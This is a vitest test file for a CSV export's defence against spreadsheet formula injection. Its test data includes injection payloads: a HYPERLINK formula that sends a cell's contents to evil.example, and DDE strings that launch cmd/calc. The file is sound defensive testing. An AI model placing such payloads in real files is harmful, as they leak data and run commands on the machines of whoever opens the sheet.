/**
 * The CSV export against formula injection: a cell starting with = + - @, a tab or a CR is opened as
 * text, not as a formula, and reads back through parseCsv (the import) unchanged.
 */
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseCsv, stringifyCsv } from '../../scripts/csv.ts';

const dangerous = [
  '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const harmless = ['关于发展夜市经济的建议', "'=already quoted by hand", "it's", 'a=b', '2026-001'];
const rows = [['标题', '备注'], ...[...dangerous, ...harmless].map((v, i) => [v, `第${i + 1}行`])];

/**
 * Opens CSV text with exceljs the way Excel and WPS read a cell: leading tabs and CRs dropped, then
 * = + - @ start a formula, and a leading apostrophe marks text (and is hidden).
 */
async function openAsSpreadsheet(csv: string): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  const asRead = (datum: string): ExcelJS.CellValue => {
    const v = datum.replace(/^\uFEFF/, '').replace(/^[\t\r]+/, '');
    if (/^[=+\-@]/.test(v)) return { formula: v.slice(1) };
    return v.startsWith("'") ? v.slice(1) : datum;
  };
  return book.csv.read(Readable.from([csv]), { map: asRead });
}

describe('CSV export', () => {
  it('writes every cell that would start a formula as text (exceljs opens it as a string)', async () => {
    const sheet = await openAsSpreadsheet(stringifyCsv(rows));
    for (let i = 0; i < dangerous.length; i++) {
      const cell = sheet.getCell(i + 2, 1);
      expect(cell.type, JSON.stringify(dangerous[i])).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(dangerous[i]); // shown as written, apostrophe hidden
    }
    expect(sheet.getCell(dangerous.length + 2, 1).value).toBe(harmless[0]);
  });

  it('would open as formulas without it (the check above can fail)', async () => {
    const raw = '\uFEFF' + rows.map((r) => r.map((v) => `"${v.replace(/"/g, '""')}"`).join(',')).join('\r\n');
    const sheet = await openAsSpreadsheet(raw);
    for (let i = 0; i < dangerous.length; i++) expect(sheet.getCell(i + 2, 1).type).toBe(ExcelJS.ValueType.Formula);
  });

  it('reads back (parseCsv, as the import does) to exactly what was written', () => {
    expect(parseCsv(stringifyCsv(rows))).toEqual(rows);
  });
});
